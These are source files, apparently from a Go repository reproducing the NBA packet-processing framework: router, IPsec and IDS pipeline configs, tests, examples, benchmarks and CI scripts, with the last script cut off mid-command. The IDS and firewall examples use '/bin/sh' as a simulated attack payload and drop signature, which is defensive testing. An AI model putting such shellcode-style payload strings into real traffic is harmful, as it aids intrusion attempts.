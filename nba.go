// Package nba is a Go reproduction of NBA (Network Balancing Act), the
// EuroSys 2015 high-performance packet processing framework for
// heterogeneous processors.
//
// It provides a Click-style modular pipeline with batch processing,
// declarative GPU offloading and adaptive CPU/GPU load balancing, running
// on a deterministic virtual-time simulation of the paper's hardware
// platform (dual-socket CPUs, multi-queue 10 GbE NICs, discrete GPUs).
// Packet contents and application algorithms (DIR-24-8 and Waldvogel route
// lookup, AES-CTR/HMAC-SHA1 IPsec, Aho-Corasick/regex IDS) execute for
// real; only time is simulated.
//
// Quick start:
//
//	cfg := nba.Config{
//	    GraphConfig: `FromInput() -> L2Forward() -> ToOutput();`,
//	    Generator:   &nba.UDP4{FrameLen: 64, Flows: 1024, Seed: 1},
//	    OfferedBpsPerPort: 10e9,
//	}
//	sys, err := nba.NewSystem(cfg)
//	report, err := sys.Run()
//	fmt.Println(report.TxGbps)
//
// See DESIGN.md for the architecture and EXPERIMENTS.md for the
// paper-vs-measured record.
package nba

import (
	"nba/internal/batch"
	"nba/internal/core"
	"nba/internal/element"
	"nba/internal/gen"
	"nba/internal/graph"
	"nba/internal/lb"
	"nba/internal/packet"
	"nba/internal/simtime"
	"nba/internal/sysinfo"

	// Register the bundled sample applications' elements so configurations
	// can use IPLookup, LookupIP6Route, IPsec*, IDSMatch* and LoadBalance.
	_ "nba/internal/apps/ids"
	_ "nba/internal/apps/ipsec"
	_ "nba/internal/apps/ipv4"
	_ "nba/internal/apps/ipv6"
	_ "nba/internal/lb"
)

// --- system assembly ---

// Config describes one system run. See core.Config for field documentation.
type Config = core.Config

// System is an assembled NBA instance.
type System = core.System

// Report is the outcome of a run.
type Report = core.Report

// RateChange alters the offered load mid-run.
type RateChange = core.RateChange

// NewSystem builds a system from the configuration.
func NewSystem(cfg Config) (*System, error) { return core.NewSystem(cfg) }

// --- hardware model ---

// Topology describes the simulated machine.
type Topology = sysinfo.Topology

// CostModel holds the calibration constants of the simulation.
type CostModel = sysinfo.CostModel

// DefaultTopology is the paper's Table 3 machine.
func DefaultTopology() *Topology { return sysinfo.DefaultTopology() }

// SingleSocketTopology is a small machine for experiments and tests.
func SingleSocketTopology(cores, ports int) *Topology {
	return sysinfo.SingleSocketTopology(cores, ports)
}

// DefaultCostModel returns the calibrated cost model.
func DefaultCostModel() *CostModel { return sysinfo.Default() }

// --- elements ---

// Element is the Click-style packet-processing module interface.
type Element = element.Element

// BatchElement processes whole batches without decomposing them.
type BatchElement = element.BatchElement

// Offloadable elements add a device-side function and datablocks.
type Offloadable = element.Offloadable

// Datablock declares offload input/output data (paper Table 2).
type Datablock = element.Datablock

// ConfigContext is passed to Element.Configure.
type ConfigContext = element.ConfigContext

// ProcContext is passed to Element.Process.
type ProcContext = element.ProcContext

// Packet is one frame plus metadata.
type Packet = packet.Packet

// Batch is a set of packets traversing the pipeline together.
type Batch = batch.Batch

// GraphOptions toggles branch prediction and offload chaining.
type GraphOptions = graph.Options

// Drop is the Process result that discards a packet.
const Drop = element.Drop

// RegisterElement binds a class name usable in configurations to a factory.
func RegisterElement(class string, factory func() Element) {
	element.Register(class, factory)
}

// NewClassicAdapter wraps a classic Click-style per-packet handler as an
// element (paper §7, element migration).
func NewClassicAdapter(class string, outPorts int, handler func(*ProcContext, *Packet) int) Element {
	return element.NewClassicAdapter(class, outPorts, handler)
}

// --- traffic generation ---

// UDP4 generates fixed-size random IPv4/UDP traffic.
type UDP4 = gen.UDP4

// UDP6 generates fixed-size random IPv6/UDP traffic.
type UDP6 = gen.UDP6

// SyntheticCAIDA generates the CAIDA-2013-like size/flow mix.
type SyntheticCAIDA = gen.SyntheticCAIDA

// MixedL4 generates traffic with a configurable UDP/TCP protocol mix.
type MixedL4 = gen.MixedL4

// Trace replays a recorded nbatrace workload.
type Trace = gen.Trace

// --- load balancing ---

// LBController is the adaptive load-balancing control loop (paper §3.4).
type LBController = lb.Controller

// --- virtual time ---

// Time is a point in virtual time (picoseconds).
type Time = simtime.Time

// Common durations for Config fields.
const (
	Microsecond = simtime.Microsecond
	Millisecond = simtime.Millisecond
	Second      = simtime.Second
)
