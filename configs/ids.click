// Intrusion detection system (paper Figure 8d), alert mode.
// Run: nba -config configs/ids.click -app ids -gbps 5 -size 512
FromInput()
	-> CheckIPHeader()
	-> LoadBalance("gpu")
	-> IDSMatchAC("alert")
	-> IDSMatchRE("alert")
	-> EchoBack()
	-> ToOutput();
