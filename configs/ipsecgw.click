// IPsec encryption gateway (paper Figure 8c).
// Run: nba -config configs/ipsecgw.click -app ipsec -gbps 10 -size 256
FromInput()
	-> CheckIPHeader()
	-> IPsecESPencap("sas=1024")
	-> LoadBalance("adaptive")
	-> IPsecAES("sas=1024")
	-> IPsecHMAC("sas=1024")
	-> ToOutput();
