// IPv4 router (paper Figure 8a) with CPU/GPU load balancing left adaptive.
// Run: nba -config configs/ipv4router.click -app ipv4 -gbps 10 -size 64
FromInput()
	-> CheckIPHeader()
	-> LoadBalance("adaptive")
	-> IPLookup("entries=65536", "seed=42")
	-> DecIPTTL()
	-> ToOutput();
