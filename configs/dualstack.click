// Dual-stack router: classify by EtherType, route v4 and v6 separately.
// Run: nba -config configs/dualstack.click -app ipv4 -gbps 10 -size 256
cls :: Classifier("ip", "ip6");
v4  :: IPLookup("entries=65536", "seed=42");
v6  :: LookupIP6Route("entries=32768", "seed=43");
out :: ToOutput();

FromInput() -> cls;
cls[0] -> CheckIPHeader()  -> v4 -> DecIPTTL()   -> out;
cls[1] -> CheckIP6Header() -> v6 -> DecIP6HLIM() -> out;
