package nba_test

import (
	"fmt"
	"log"
	"testing"

	"nba"
)

func TestFacadeEndToEnd(t *testing.T) {
	cfg := nba.Config{
		Topology:          nba.SingleSocketTopology(4, 2),
		GraphConfig:       `FromInput() -> L2Forward() -> ToOutput();`,
		Generator:         &nba.UDP4{FrameLen: 64, Flows: 256, Seed: 1},
		OfferedBpsPerPort: 1e9,
		Warmup:            1 * nba.Millisecond,
		Duration:          4 * nba.Millisecond,
		Seed:              2,
	}
	sys, err := nba.NewSystem(cfg)
	if err != nil {
		t.Fatal(err)
	}
	r, err := sys.Run()
	if err != nil {
		t.Fatal(err)
	}
	if r.TxGbps <= 0 {
		t.Error("no throughput through the facade")
	}
	if r.PoolOutstanding != 0 {
		t.Errorf("leak: %d", r.PoolOutstanding)
	}
}

func TestFacadeDefaults(t *testing.T) {
	if nba.DefaultTopology().Sockets != 2 {
		t.Error("default topology wrong")
	}
	if nba.DefaultCostModel().MaxAggBatches != 32 {
		t.Error("default cost model wrong")
	}
}

func TestFacadeCustomElement(t *testing.T) {
	hits := 0
	nba.RegisterElement("FacadeProbe", func() nba.Element {
		return nba.NewClassicAdapter("FacadeProbe", 1, func(ctx *nba.ProcContext, pkt *nba.Packet) int {
			hits++
			return 0
		})
	})
	cfg := nba.Config{
		Topology:          nba.SingleSocketTopology(4, 2),
		GraphConfig:       `FromInput() -> FacadeProbe() -> EchoBack() -> ToOutput();`,
		Generator:         &nba.UDP4{FrameLen: 64, Flows: 16, Seed: 3},
		OfferedBpsPerPort: 5e8,
		Warmup:            1 * nba.Millisecond,
		Duration:          3 * nba.Millisecond,
		Seed:              4,
	}
	sys, err := nba.NewSystem(cfg)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := sys.Run(); err != nil {
		t.Fatal(err)
	}
	if hits == 0 {
		t.Error("custom element never invoked")
	}
}

// ExampleNewSystem shows the minimal public-API flow. The throughput value
// is deterministic because the whole run happens in virtual time.
func ExampleNewSystem() {
	cfg := nba.Config{
		Topology:          nba.SingleSocketTopology(4, 2),
		GraphConfig:       `FromInput() -> EchoBack() -> ToOutput();`,
		Generator:         &nba.UDP4{FrameLen: 128, Flows: 64, Seed: 1},
		OfferedBpsPerPort: 1e9,
		Warmup:            1 * nba.Millisecond,
		Duration:          5 * nba.Millisecond,
		Seed:              1,
	}
	sys, err := nba.NewSystem(cfg)
	if err != nil {
		log.Fatal(err)
	}
	report, err := sys.Run()
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("%.2f Gbps\n", report.TxGbps)
	// Output: 2.00 Gbps
}
