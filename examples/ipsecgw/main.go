// IPsec encryption gateway with adaptive CPU/GPU load balancing (the
// paper's Figure 8c application with the §3.4 ALB), fed with the
// synthetic-CAIDA traffic mix of Figure 2.
//
// The example prints the controller's convergence trace: watch the offload
// fraction W climb toward the throughput optimum.
package main

import (
	"fmt"
	"log"

	"nba"
)

const gatewayConfig = `
	FromInput() -> CheckIPHeader() -> IPsecESPencap("sas=1024")
		-> LoadBalance("adaptive")
		-> IPsecAES("sas=1024") -> IPsecHMAC("sas=1024") -> ToOutput();
`

func main() {
	cfg := nba.Config{
		GraphConfig:       gatewayConfig,
		Generator:         &nba.SyntheticCAIDA{Flows: 16384, Seed: 5},
		OfferedBpsPerPort: 10e9,
		Warmup:            10 * nba.Millisecond,
		Duration:          200 * nba.Millisecond,
		ALBObserve:        500 * nba.Microsecond,
		ALBUpdate:         2 * nba.Millisecond,
		LatencySample:     64,
		Seed:              11,
	}
	sys, err := nba.NewSystem(cfg)
	if err != nil {
		log.Fatal(err)
	}
	report, err := sys.Run()
	if err != nil {
		log.Fatal(err)
	}

	fmt.Printf("throughput:        %.2f Gbps\n", report.TxGbps)
	fmt.Printf("offloaded packets: %d\n", report.OffloadedPackets)
	fmt.Printf("final offload W:   %.2f\n\n", report.FinalW)

	fmt.Println("ALB convergence (every 8th controller update):")
	fmt.Println("step    W      smoothed-throughput(Mpps)")
	for i, pt := range report.LBTrace {
		if i%8 != 0 {
			continue
		}
		fmt.Printf("%4d  %4.2f   %10.2f\n", i, pt.W, pt.Throughput/1e6)
	}
}
