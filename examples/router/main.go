// Dual-stack router: an IPv4/IPv6 router composed with Classifier from the
// configuration language (the paper's Figure 8a/8b applications combined),
// swept across packet sizes like Figure 12.
package main

import (
	"fmt"
	"log"

	"nba"
)

// The pipeline classifies by EtherType and runs the DIR-24-8 or Waldvogel
// lookup; unroutable and expired packets are dropped inside the pipeline.
const routerConfig = `
	cls :: Classifier("ip", "ip6");
	v4  :: IPLookup("entries=65536", "seed=42");
	v6  :: LookupIP6Route("entries=32768", "seed=43");
	out :: ToOutput();

	FromInput() -> cls;
	cls[0] -> CheckIPHeader() -> v4 -> DecIPTTL() -> out;
	cls[1] -> CheckIP6Header() -> v6 -> DecIP6HLIM() -> out;
`

func main() {
	fmt.Println("size   IPv4-traffic-Gbps   IPv6-traffic-Gbps")
	for _, size := range []int{64, 256, 1500} {
		v4 := run(&nba.UDP4{FrameLen: size, Flows: 8192, Seed: 3})
		v6 := run(&nba.UDP6{FrameLen: size, Flows: 8192, Seed: 4})
		fmt.Printf("%4dB  %17.2f   %17.2f\n", size, v4, v6)
	}
}

func run(generator interface {
	Fill(p *nba.Packet, port int, seq uint64)
	MeanFrameLen() float64
}) float64 {
	cfg := nba.Config{
		GraphConfig:       routerConfig,
		Generator:         generator,
		OfferedBpsPerPort: 10e9,
		WorkersPerSocket:  7,
		Warmup:            5 * nba.Millisecond,
		Duration:          15 * nba.Millisecond,
		Seed:              9,
	}
	sys, err := nba.NewSystem(cfg)
	if err != nil {
		log.Fatal(err)
	}
	report, err := sys.Run()
	if err != nil {
		log.Fatal(err)
	}
	return report.TxGbps
}
