// Quickstart: build a custom element, compose a pipeline in the NBA
// configuration language, run it on the simulated platform and read the
// report.
package main

import (
	"fmt"
	"log"

	"nba"
)

// CountTTL is a user-defined element: it histograms the IPv4 TTL of every
// packet it forwards. It shows the minimal Element surface — everything
// else (batching, branching, IO) is the framework's job.
type CountTTL struct {
	Seen [256]uint64
}

func (e *CountTTL) Class() string { return "CountTTL" }
func (e *CountTTL) OutPorts() int { return 1 }
func (e *CountTTL) Configure(ctx *nba.ConfigContext, args []string) error {
	if len(args) != 0 {
		return fmt.Errorf("CountTTL takes no parameters")
	}
	return nil
}
func (e *CountTTL) Process(ctx *nba.ProcContext, pkt *nba.Packet) int {
	f := pkt.Data()
	if len(f) > 14+8 {
		e.Seen[f[14+8]]++
	}
	return 0
}

func main() {
	counters := make([]*CountTTL, 0)
	nba.RegisterElement("CountTTL", func() nba.Element {
		e := &CountTTL{}
		counters = append(counters, e) // one instance per worker replica
		return e
	})

	cfg := nba.Config{
		Topology: nba.SingleSocketTopology(4, 2), // 3 workers, 2x10GbE
		GraphConfig: `
			// A minimal forwarding pipeline with our custom element spliced in.
			FromInput() -> CheckIPHeader() -> CountTTL() -> L2Forward() -> ToOutput();
		`,
		Generator:         &nba.UDP4{FrameLen: 64, Flows: 4096, Seed: 7},
		OfferedBpsPerPort: 3e9,
		Warmup:            5 * nba.Millisecond,
		Duration:          20 * nba.Millisecond,
		Seed:              1,
	}

	sys, err := nba.NewSystem(cfg)
	if err != nil {
		log.Fatal(err)
	}
	report, err := sys.Run()
	if err != nil {
		log.Fatal(err)
	}

	fmt.Printf("throughput: %.2f Gbps (%.2f Mpps)\n", report.TxGbps, report.TxPPS/1e6)
	fmt.Printf("latency:    min %.1f us, avg %.1f us, p99 %.1f us\n",
		report.Latency.Min().Micros(), report.Latency.Mean().Micros(),
		report.Latency.Percentile(99).Micros())

	var ttl64 uint64
	for _, c := range counters {
		ttl64 += c.Seen[64]
	}
	fmt.Printf("packets with TTL=64 seen by CountTTL replicas: %d\n", ttl64)
}
