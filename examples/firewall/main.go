// Firewall: a stateless ACL + signature IDS composed with compound elements
// (Click's elementclass), demonstrating the configuration-language features
// beyond the paper's four sample applications: IPFilter rules, Snort-style
// IDS rules, Paint-based classification and packet sampling.
package main

import (
	"fmt"
	"log"

	"nba"
)

const firewallConfig = `
	// A reusable inspected-path compound: ACL, then deep inspection.
	elementclass Inspected {
		acl :: IPFilter(
			"deny src net 10.66.0.0/16",
			"allow proto udp and dst port 53",
			"allow proto udp",
			"deny all");
		ids :: IDSRuleMatch();
		input -> acl -> ids -> output;
	}

	FromInput()
		-> CheckIPHeader()
		-> Inspected()
		-> Paint("1")
		-> EchoBack()
		-> ToOutput();
`

func main() {
	cfg := nba.Config{
		Topology:    nba.SingleSocketTopology(4, 2),
		GraphConfig: firewallConfig,
		Generator: &nba.UDP4{
			FrameLen:      256,
			Flows:         4096,
			Seed:          21,
			AttackFrac:    0.03,
			AttackPattern: []byte("/bin/sh"), // triggers built-in drop rule sid 2003
		},
		OfferedBpsPerPort: 2e9,
		Warmup:            5 * nba.Millisecond,
		Duration:          30 * nba.Millisecond,
		Seed:              8,
	}
	sys, err := nba.NewSystem(cfg)
	if err != nil {
		log.Fatal(err)
	}
	report, err := sys.Run()
	if err != nil {
		log.Fatal(err)
	}

	inspected := report.RxDelivered
	fmt.Printf("inspected:        %d packets\n", inspected)
	fmt.Printf("forwarded:        %.2f Gbps\n", report.TxGbps)
	fmt.Printf("dropped by rules: %d (%.2f%%)\n",
		report.GraphDrops, float64(report.GraphDrops)/float64(inspected)*100)
	fmt.Printf("p99 latency:      %.1f us\n", report.Latency.Percentile(99).Micros())
}
