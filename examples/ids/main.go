// Intrusion detection: the paper's Figure 8d application with Aho-Corasick
// signature matching and regex-DFA matching, run in drop mode against
// traffic with a configurable fraction of attack payloads.
//
// Matched packets are dropped inside the pipeline, so the report's graph
// drops directly reflect detections.
package main

import (
	"fmt"
	"log"

	"nba"
)

const idsConfig = `
	FromInput() -> CheckIPHeader()
		-> IDSMatchAC("drop") -> IDSMatchRE("drop")
		-> EchoBack() -> ToOutput();
`

func main() {
	const attackFrac = 0.05
	cfg := nba.Config{
		Topology:    nba.SingleSocketTopology(8, 4),
		GraphConfig: idsConfig,
		Generator: &nba.UDP4{
			FrameLen:      512,
			Flows:         8192,
			Seed:          13,
			AttackFrac:    attackFrac,
			AttackPattern: []byte("/bin/sh"), // built-in signature 0
		},
		OfferedBpsPerPort: 2e9,
		Warmup:            5 * nba.Millisecond,
		Duration:          40 * nba.Millisecond,
		Seed:              17,
	}
	sys, err := nba.NewSystem(cfg)
	if err != nil {
		log.Fatal(err)
	}
	report, err := sys.Run()
	if err != nil {
		log.Fatal(err)
	}

	total := report.RxDelivered
	fmt.Printf("inspected packets:  %d\n", total)
	fmt.Printf("forwarded:          %.2f Gbps\n", report.TxGbps)
	fmt.Printf("dropped as attacks: %d (%.2f%% of traffic; %.0f%% attack payloads injected)\n",
		report.GraphDrops, float64(report.GraphDrops)/float64(total)*100, attackFrac*100)
	if report.GraphDrops == 0 {
		fmt.Println("WARNING: no attacks detected — something is wrong")
	}
}
