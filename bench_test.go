package nba_test

// One benchmark per table/figure of the paper's evaluation (§4). Each
// benchmark executes its experiment in Quick mode through the same harness
// cmd/nbabench uses, reporting wall time for the whole regeneration and the
// headline virtual-throughput metric where one exists.
//
// Full-fidelity regeneration (paper-scale virtual durations):
//
//	go run ./cmd/nbabench -all

import (
	"bytes"
	"fmt"
	"testing"

	"nba/internal/bench"
	"nba/internal/simtime"
)

func runExperiment(b *testing.B, id string) {
	b.Helper()
	e, err := bench.ByID(id)
	if err != nil {
		b.Fatal(err)
	}
	opts := bench.Options{Quick: true, Seed: 42}
	b.ReportAllocs()
	bench.ResetSimSeconds()
	for i := 0; i < b.N; i++ {
		var buf bytes.Buffer
		if err := e.Run(opts, &buf); err != nil {
			b.Fatalf("%s: %v\noutput so far:\n%s", id, err, buf.String())
		}
		if buf.Len() == 0 {
			b.Fatalf("%s produced no output", id)
		}
	}
	// sim-sec/s is the trajectory headline: virtual seconds simulated per
	// wall second across every run the experiment executed.
	if wall := b.Elapsed().Seconds(); wall > 0 {
		b.ReportMetric(bench.SimSeconds()/wall, "sim-sec/s")
	}
}

func BenchmarkTab01FeatureMatrix(b *testing.B)       { runExperiment(b, "tab1") }
func BenchmarkTab03Hardware(b *testing.B)            { runExperiment(b, "tab3") }
func BenchmarkFig01BatchSplit(b *testing.B)          { runExperiment(b, "fig1") }
func BenchmarkFig02OffloadFraction(b *testing.B)     { runExperiment(b, "fig2") }
func BenchmarkComposition(b *testing.B)              { runExperiment(b, "composition") }
func BenchmarkFig09ComputationBatching(b *testing.B) { runExperiment(b, "fig9") }
func BenchmarkFig10BranchPrediction(b *testing.B)    { runExperiment(b, "fig10") }
func BenchmarkFig11Scalability(b *testing.B)         { runExperiment(b, "fig11") }
func BenchmarkFig12PacketSizes(b *testing.B)         { runExperiment(b, "fig12") }
func BenchmarkFig13ALB(b *testing.B)                 { runExperiment(b, "fig13") }
func BenchmarkFig14Latency(b *testing.B)             { runExperiment(b, "fig14") }

func BenchmarkAblationDatablock(b *testing.B)  { runExperiment(b, "ablation-datablock") }
func BenchmarkAblationAggSize(b *testing.B)    { runExperiment(b, "ablation-aggsize") }
func BenchmarkAblationPhi(b *testing.B)        { runExperiment(b, "ablation-phi") }
func BenchmarkAblationNUMA(b *testing.B)       { runExperiment(b, "ablation-numa") }
func BenchmarkAblationBoundedLat(b *testing.B) { runExperiment(b, "ablation-boundedlat") }
func BenchmarkALBReconverge(b *testing.B)      { runExperiment(b, "alb-reconverge") }

// BenchmarkHeadline reports the headline single-run numbers (IPv4 64 B
// CPU-only and IPsec 64 B GPU-only on the full simulated machine) as custom
// metrics, so regressions in the simulation's performance model show up in
// benchmark diffs.
func BenchmarkHeadline(b *testing.B) {
	cases := []struct {
		name string
		spec bench.RunSpec
	}{
		{"ipv4-64B-cpu", bench.RunSpec{App: "ipv4", LB: "cpu", Size: 64, OfferedBps: 10e9}},
		{"ipsec-64B-gpu", bench.RunSpec{App: "ipsec", LB: "gpu", Size: 64, OfferedBps: 10e9}},
	}
	for _, c := range cases {
		b.Run(c.name, func(b *testing.B) {
			spec := c.spec
			spec.Warmup = 2 * simtime.Millisecond
			spec.Duration = 8 * simtime.Millisecond
			spec.Seed = 42
			b.ReportAllocs()
			bench.ResetSimSeconds()
			var gbps float64
			for i := 0; i < b.N; i++ {
				r, err := bench.Execute(spec)
				if err != nil {
					b.Fatal(err)
				}
				gbps = r.TxGbps
			}
			b.ReportMetric(gbps, "virtGbps")
			if wall := b.Elapsed().Seconds(); wall > 0 {
				b.ReportMetric(bench.SimSeconds()/wall, "sim-sec/s")
			}
		})
	}
}

// Example of using the harness programmatically.
func ExampleByID() {
	e, _ := bench.ByID("tab3")
	fmt.Println(e.ID)
	// Output: tab3
}
