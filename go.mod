module nba

go 1.24
