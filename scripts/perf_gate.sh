#!/usr/bin/env bash
# perf_gate.sh — the perf-trajectory regression gate.
#
# Measures a fresh quick-mode perf snapshot (cmd/nbaperf measure -quick) and
# compares its sim-seconds-per-wall-second headline against the newest
# committed BENCH_<date>.json baseline. Only the headline gates: allocs/case
# and peak goroutines are recorded for the trajectory but deliberately do not
# fail the build (they drift with the Go runtime).
#
# Usage:
#   scripts/perf_gate.sh                    gate against the committed baseline
#   scripts/perf_gate.sh -update-baseline   measure and write BENCH_$(date +%F).json
#   scripts/perf_gate.sh -update-baseline -f   ... even over today's existing file
#   scripts/perf_gate.sh -print-baseline    print the baseline path and exit
#
# Environment:
#   PERF_TOL    relative tolerance on sim_s_per_s (default 0.15 = ±15%).
#               Wall-clock noise on shared runners is real; the tolerance is
#               wide by design — the gate exists to catch step regressions
#               (an accidental O(n^2), a lost fast path), not 2% jitter.
#   PERF_SEED   base seed for the pinned workloads (default 42).
set -euo pipefail
cd "$(dirname "$0")/.."

tol="${PERF_TOL:-0.15}"
seed="${PERF_SEED:-42}"

# pick_baseline prints the newest *committed* snapshot. Only git-tracked
# files qualify: a bare `ls` would also pick up stray local snapshots (a
# leftover -update-baseline run, a scratch file) and silently gate against a
# baseline nobody reviewed.
pick_baseline() {
    git ls-files 'BENCH_*.json' | sort | tail -n 1
}

if [[ "${1:-}" == "-print-baseline" ]]; then
    pick_baseline
    exit 0
fi

if [[ "${1:-}" == "-update-baseline" ]]; then
    out="BENCH_$(date +%F).json"
    if [[ -e "$out" && "${2:-}" != "-f" ]]; then
        # Same-day reruns silently clobbering an already-measured (possibly
        # committed) snapshot made the trajectory unreproducible; demand -f.
        echo "perf_gate: $out already exists; pass -f to overwrite it" >&2
        exit 1
    fi
    echo "==> perf_gate: writing new baseline $out"
    go run ./cmd/nbaperf measure -quick -seed "$seed" -o "$out"
    echo "perf_gate: baseline updated; commit $out"
    exit 0
fi

baseline=$(pick_baseline)
if [[ -z "$baseline" ]]; then
    echo "perf_gate: no committed BENCH_*.json baseline found; run scripts/perf_gate.sh -update-baseline and commit the result" >&2
    exit 1
fi

fresh=$(mktemp -d)/bench.json
trap 'rm -rf "$(dirname "$fresh")"' EXIT

echo "==> perf_gate: measuring fresh snapshot (quick mode)"
go run ./cmd/nbaperf measure -quick -seed "$seed" -o "$fresh"

echo "==> perf_gate: comparing against $baseline (tol ±$(awk "BEGIN{printf \"%.0f\", $tol*100}")%)"
go run ./cmd/nbaperf compare -tol "$tol" "$baseline" "$fresh"
