#!/usr/bin/env bash
# check.sh — the one-command tier-1+ gate.
#
# Runs, in order:
#   1. gofmt -l           formatting (whole tree, fixtures included)
#   2. go vet ./...       stdlib vet analyzers
#   3. go build ./...     everything compiles
#   4. nbalint ./...      framework determinism & invariant lint (cmd/nbalint):
#                         per-file rules plus the interprocedural detflow /
#                         aliasflow / hotalloc / sharedstate rules over one
#                         shared type-checked module. Runs with -audit-allows
#                         (stale or misspelled //nbalint:allow escapes fail
#                         the gate), a per-rule wall-clock budget, and
#                         -format json so the machine-readable findings /
#                         allow counts / timings land in an artifact file
#                         ($NBALINT_JSON, default nbalint.json under mktemp)
#   5. go test -race ...  full test suite under the race detector
#   6. fuzz smoke         a few seconds per fuzz target (conflang round-trip,
#                         packet header parsing) to catch shallow regressions
#   7. nbatrace self-check the same config+seed recorded twice must diff to
#                         zero divergence (dynamic determinism gate):
#                         fault-free, with the canonical injected GPU outage
#                         (-faults), with the canonical silent-corruption
#                         window and the integrity sentinel armed (-corrupt),
#                         with overload control armed under a
#                         sustained load burst (-overload), with two
#                         co-resident tenant app graphs (-tenants: the merged
#                         tenant-tagged timeline is part of the run identity),
#                         and with the canonical tenant-churn reconfiguration
#                         armed (-reconfig: epoch drain-and-handoff events are
#                         part of the run identity too)
#   8. chaos smoke        fixed-seed nbachaos sweeps (every app, a couple of
#                         seeds; then 2-tenant co-residency with
#                         tenant-targeted fault plans; then -reconfig cases
#                         layering random control-plane churn over the fault
#                         plans): random-but-seeded fault plans must pass the
#                         invariant oracle with matching digests across the
#                         doubled runs; plus a fixed corruption case replayed
#                         both contained (sentinel sampling) and leaking
#                         (sampling disarmed), exercising the replay
#                         exit-code contract (0/1/2)
#   9. parallel equiv     the same sweeps at -parallel 1 and -parallel 8 must
#                         print byte-identical combined digests (internal/par
#                         determinism contract; the tenant sweep also folds
#                         every per-tenant sub-digest into the combined one)
#  10. perf gate          opt-in via PERF_GATE=1: scripts/perf_gate.sh
#                         compares a fresh quick-mode perf snapshot against
#                         the newest committed BENCH_<date>.json (±15% on the
#                         sim-seconds/sec headline)
#
# The race run doubles as the regression tripwire for future parallel-worker
# PRs: the engine is single-threaded by design, so any data race is new code
# breaking the simulation contract.
set -euo pipefail
cd "$(dirname "$0")/.."

echo "==> gofmt"
unformatted=$(gofmt -l .)
if [[ -n "$unformatted" ]]; then
    echo "gofmt: the following files need formatting:" >&2
    echo "$unformatted" >&2
    exit 1
fi

echo "==> go vet ./..."
go vet ./...

echo "==> go build ./..."
go build ./...

echo "==> nbalint -audit-allows ./... (interprocedural rules, budget, json artifact)"
lint_json="${NBALINT_JSON:-$(mktemp -d)/nbalint.json}"
# One invocation serves as gate and artifact: the module is type-checked once
# and shared across all rules, -budget trips on any single rule regressing
# past 10s of wall clock (the whole suite runs in well under one), and the
# JSON document (findings with source→sink paths, per-rule allow counts,
# per-rule timings) is kept for inspection even though the gate passed.
go run ./cmd/nbalint -audit-allows -timing -budget 10s -format json ./... > "$lint_json"
echo "nbalint: json artifact at $lint_json"

echo "==> go test -race ./..."
go test -race ./...

echo "==> fuzz smoke (a few seconds per target)"
# Each -fuzz invocation takes exactly one target, so one run per regex.
go test -fuzz='^FuzzParsePrint$' -fuzztime=5s -run '^$' ./internal/conflang
go test -fuzz='^FuzzHeaderParse$' -fuzztime=5s -run '^$' ./internal/packet
go test -fuzz='^FuzzBuildUDP4$' -fuzztime=5s -run '^$' ./internal/packet

echo "==> nbatrace determinism self-check"
tracedir=$(mktemp -d)
trap 'rm -rf "$tracedir"' EXIT
go run ./cmd/nbatrace record -app ipv4 -lb fixed=0.8 -o "$tracedir/a.jsonl" >/dev/null
go run ./cmd/nbatrace record -app ipv4 -lb fixed=0.8 -o "$tracedir/b.jsonl" >/dev/null
go run ./cmd/nbatrace diff "$tracedir/a.jsonl" "$tracedir/b.jsonl"
go run ./cmd/nbatrace record -app ipsec -lb fixed=0.8 -faults -o "$tracedir/fa.jsonl" >/dev/null
go run ./cmd/nbatrace record -app ipsec -lb fixed=0.8 -faults -o "$tracedir/fb.jsonl" >/dev/null
go run ./cmd/nbatrace diff "$tracedir/fa.jsonl" "$tracedir/fb.jsonl"
go run ./cmd/nbatrace record -app ipsec -lb fixed=0.8 -gbps 3 -overload -o "$tracedir/oa.jsonl" >/dev/null
go run ./cmd/nbatrace record -app ipsec -lb fixed=0.8 -gbps 3 -overload -o "$tracedir/ob.jsonl" >/dev/null
go run ./cmd/nbatrace diff "$tracedir/oa.jsonl" "$tracedir/ob.jsonl"
# Silent corruption with the integrity sentinel armed: the corruption stream,
# sampling coins, quarantines and device escalation are all part of the run
# identity, so -corrupt recordings must be byte-identical too.
go run ./cmd/nbatrace record -app ipsec -lb fixed=0.8 -corrupt -o "$tracedir/ca.jsonl" >/dev/null
go run ./cmd/nbatrace record -app ipsec -lb fixed=0.8 -corrupt -o "$tracedir/cb.jsonl" >/dev/null
go run ./cmd/nbatrace diff "$tracedir/ca.jsonl" "$tracedir/cb.jsonl"
# Multi-tenant: two co-resident app graphs share the workers and queues;
# the merged timeline (every event tagged with its tenant) must still be
# byte-identical across recordings.
go run ./cmd/nbatrace record -tenants ipv4,ipsec -o "$tracedir/ta.jsonl" >/dev/null
go run ./cmd/nbatrace record -tenants ipv4,ipsec -o "$tracedir/tb.jsonl" >/dev/null
go run ./cmd/nbatrace diff "$tracedir/ta.jsonl" "$tracedir/tb.jsonl"
# Runtime reconfiguration: the canonical churn plan (admit/retune/evict via
# epoch drain-and-handoff) is part of the run identity, so armed recordings
# must also be byte-identical across recordings.
go run ./cmd/nbatrace record -tenants ipv4,ids -reconfig -o "$tracedir/ra.jsonl" >/dev/null
go run ./cmd/nbatrace record -tenants ipv4,ids -reconfig -o "$tracedir/rb.jsonl" >/dev/null
go run ./cmd/nbatrace diff "$tracedir/ra.jsonl" "$tracedir/rb.jsonl"

echo "==> chaos smoke (fixed-seed fault sweep under the invariant oracle)"
go run ./cmd/nbachaos sweep -seeds 2 -base 1

echo "==> chaos tenant smoke (2 co-resident tenants per case, tenant-targeted faults)"
go run ./cmd/nbachaos sweep -seeds 2 -base 1 -tenants 2

echo "==> chaos reconfig smoke (control-plane churn plans on top of fault plans)"
go run ./cmd/nbachaos sweep -seeds 2 -base 1 -reconfig

echo "==> corruption chaos smoke (sentinel contains the window; disarmed sampling must trip corrupt.leak)"
# One fixed corruption case, both ways through the replay exit-code contract
# (0 = clean, 1 = violation reproduced, 2 = usage/load error): with the
# sentinel sampling (the sweep default) the window is contained and conserved;
# with sampling disarmed the same plan must leak tainted frames to TX and be
# caught by the corrupt.leak oracle.
cat > "$tracedir/corrupt-armed.json" <<'JSON'
{
  "app": "ipv4",
  "seed": 3,
  "events": [
    {"at_ps": 300000000, "kind": "device.corrupt", "corrupt_prob": 0.5, "flip_pattern": 255},
    {"at_ps": 2000000000, "kind": "corrupt.recover"}
  ]
}
JSON
sed 's/"seed": 3,/"seed": 3,\n  "disarm_sampling": true,/' \
